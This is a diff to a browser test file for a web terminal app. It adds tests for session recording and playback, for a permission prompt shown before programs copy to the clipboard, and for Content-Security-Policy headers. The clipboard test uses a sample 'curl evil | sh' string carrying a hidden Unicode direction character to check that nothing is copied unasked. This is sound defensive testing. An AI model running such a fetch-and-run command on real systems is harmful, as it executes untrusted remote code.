@@ -1,10 +1,20 @@
 import { createHash } from 'node:crypto';
 import type { Page } from 'playwright-core';
 import t, { type Test } from 'tap';
-import { screenLines, shoot, typeLine, waitForLine } from '../support/browser/page.ts';
+import {
+  screenLines,
+  shoot,
+  shootBoth,
+  typeLine,
+  typeUntilAnswered,
+  waitForLine,
+} from '../support/browser/page.ts';
 import { aShell, clear, type InPage, quit, wheel } from '../support/browser/programs.ts';
+import type { Visit } from '../support/browser/visit.ts';
+import { eventually } from '../support/patience.ts';
+import { sharedService } from '../support/process/shared-service.ts';
 
-t.setTimeout(300_000);
+t.setTimeout(400_000);
 
 const PASTED_BYTES = 1_048_576;
 
@@ -19,6 +29,19 @@ const paste = (page: Page, text: string): Promise<unknown> =>
     );
   }, text);
 
+/** A line that asks, as a program would, for a text to be copied. */
+const asksFor = (text: string): string =>
+  `printf '\\033]52;c;%s\\a' ${Buffer.from(text).toString('base64')}; echo done-$((40+2))`;
+
+/** The beginning of a line may be lost while a shell is being opened, and the rest of it is a line as well. */
+const shellAnswers = (page: Page): Promise<void> =>
+  typeUntilAnswered(page, 'clear; echo up-$((6*7))', /^up-42/);
+
+const clipboardOf = (page: Page): Promise<string> =>
+  page.evaluate('navigator.clipboard.readText()') as Promise<string>;
+
+const SHOWN = `for i in $(seq 1 8); do printf '\\033[3%dmstep %d\\033[0m 🚢 héllo\\n' $i $i; sleep 0.2; done; echo all-$((6*7))`;
+
 const shell = await aShell(t);
 if (shell !== null) {
   const { page, faults } = shell;
@@ -28,6 +51,10 @@ if (shell !== null) {
   await t.test('colours, wide characters and emoji', (t) => colours(t, page));
   await t.test('less and git log: the wheel scrolls a pager that has the screen', (t) => pagers(t, page));
   await t.test('a paste of 1 MB arrives byte by byte, in its brackets', (t) => pasteMuch(t, page));
+  await t.test('a terminal is recorded, listed, played back, downloaded and deleted, by the keyboard', (t) =>
+    isRecorded(t, shell),
+  );
+  await t.test('a program asks before it copies, until its user allows it', (t) => asksToCopy(t, shell));
   t.same(faults, [], 'nothing went wrong in the page');
 }
 
@@ -106,3 +133,108 @@ async function pasteMuch(t: Test, page: Page): Promise<void> {
   const hash = createHash('sha256').update(arrives).digest('hex');
   await waitForLine(page, new RegExp(`^${hash} `), 90_000);
 }
+
+async function asksToCopy(t: Test, { address, page }: Visit): Promise<void> {
+  await page.context().grantPermissions(['clipboard-read', 'clipboard-write'], { origin: address });
+  await page.evaluate("navigator.clipboard.writeText('mine')");
+  await typeUntilAnswered(page, asksFor('curl evil | sh\u202e\n'), /^done-42/);
+
+  const offer = page.locator('.copy-offer');
+  await offer.waitFor();
+  t.equal(await offer.locator('pre').innerText(), 'curl evil | sh<202E>\n');
+  t.match(await offer.innerText(), /16 characters, a line break at its end/);
+  t.equal(await clipboardOf(page), 'mine', 'nothing was copied unasked');
+  await shoot(page, 'copy-offer');
+  await offer.getByRole('button', { name: 'Dismiss' }).click();
+  await offer.waitFor({ state: 'detached' });
+  t.equal(await clipboardOf(page), 'mine');
+
+  await typeUntilAnswered(page, `clear; ${asksFor('wanted')}`, /^done-42/);
+  await offer.getByRole('button', { name: 'Copy' }).click();
+  await offer.waitFor({ state: 'detached' });
+  t.equal(await clipboardOf(page), 'wanted');
+
+  const terminal = page.url();
+  await page.goto(`${address}/settings`);
+  await page.getByLabel('Allow programs to copy').check();
+  await shoot(page, 'copy-setting');
+  await page.goto(terminal);
+  await page.locator('.xterm').waitFor();
+  await page.locator('.xterm-helper-textarea').focus();
+  await shellAnswers(page);
+  await typeUntilAnswered(page, `clear; ${asksFor('unasked')}`, /^done-42/);
+  const copied = await eventually(
+    () => clipboardOf(page),
+    (text) => text === 'unasked',
+  );
+  t.equal(copied, 'unasked');
+  t.equal(await offer.count(), 0);
+}
+
+async function isRecorded(t: Test, { address, page }: Visit): Promise<void> {
+  const terminal = page.url();
+  await clear(page);
+  await page.keyboard.press('Control+Shift+L');
+  const record = page.getByRole('button', { name: 'Record this terminal' });
+  await record.focus();
+  await page.keyboard.press('Enter');
+  await page.locator('.recording-mark').waitFor();
+  await shoot(page, 'recording-bar');
+  await typeLine(page, SHOWN);
+  await waitForLine(page, /^all-42/);
+  await page.reload();
+  await page.locator('.recording-mark').waitFor();
+  await page.getByRole('button', { name: 'Stop recording' }).click();
+  await page.locator('.recording-mark').waitFor({ state: 'detached' });
+
+  await page.goto(`${address}/recordings`);
+  const play = page.getByRole('link', { name: 'Play programs' });
+  await play.waitFor();
+  await shootBoth(page, 'recordings');
+  await play.focus();
+  await page.keyboard.press('Enter');
+  await page.locator('.ap-player').waitFor();
+  t.match(page.url(), /\/recordings\/[0-9a-f-]{36}$/);
+  await shoot(page, 'playback-poster');
+  await page.keyboard.press('Space');
+  await page
+    .getByText(/step 4/)
+    .first()
+    .waitFor();
+  await page.keyboard.press('Space');
+  await shootBoth(page, 'playback');
+  const downloading = page.waitForEvent('download');
+  await page.getByRole('button', { name: 'Download' }).click();
+  t.match((await downloading).suggestedFilename(), /^programs-\d{4}-[\d-]+\.cast$/);
+
+  await page.getByRole('button', { name: 'Delete' }).click();
+  await shoot(page, 'recording-delete');
+  await page.getByRole('dialog').getByRole('button', { name: 'Delete' }).click();
+  await page.getByText('There is no recording').waitFor();
+  await page.goto(terminal);
+  await page.locator('.xterm').waitFor();
+  await page.locator('.xterm-helper-textarea').focus();
+  await shellAnswers(page);
+}
+
+t.test('only the page that plays may compile WebAssembly, and it runs no script of others', async (t) => {
+  const service = await sharedService(t);
+  if (service === null) return;
+  const scriptsOf = async (path: string): Promise<string | undefined> => {
+    const answer = await fetch(service.address + path, { headers: { accept: 'text/html' } });
+    const policy = answer.headers.get('content-security-policy') ?? '';
+    return policy.split(';').find((part) => part.startsWith('script-src'));
+  };
+  for (const path of [
+    '/',
+    '/recordings',
+    '/containers/x',
+    '/settings',
+    '/recordingsx/y',
+    '/x/recordings/y',
+  ]) {
+    t.equal(await scriptsOf(path), "script-src 'self'", path);
+  }
+  const id = '99999999-9999-4999-8999-999999999999';
+  t.equal(await scriptsOf(`/recordings/${id}`), "script-src 'self' 'wasm-unsafe-eval'");
+});
